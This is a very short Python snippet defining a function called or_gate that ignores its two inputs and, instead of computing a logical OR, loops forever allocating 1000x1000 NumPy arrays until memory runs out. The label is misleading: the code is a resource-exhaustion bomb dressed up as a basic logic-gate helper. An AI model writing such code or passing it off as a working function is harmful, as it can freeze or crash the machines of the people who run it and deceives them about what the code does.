def or_gate(x1, x2):
    everything = []
    while True:
        everything.append(np.ones((1000, 1000)))
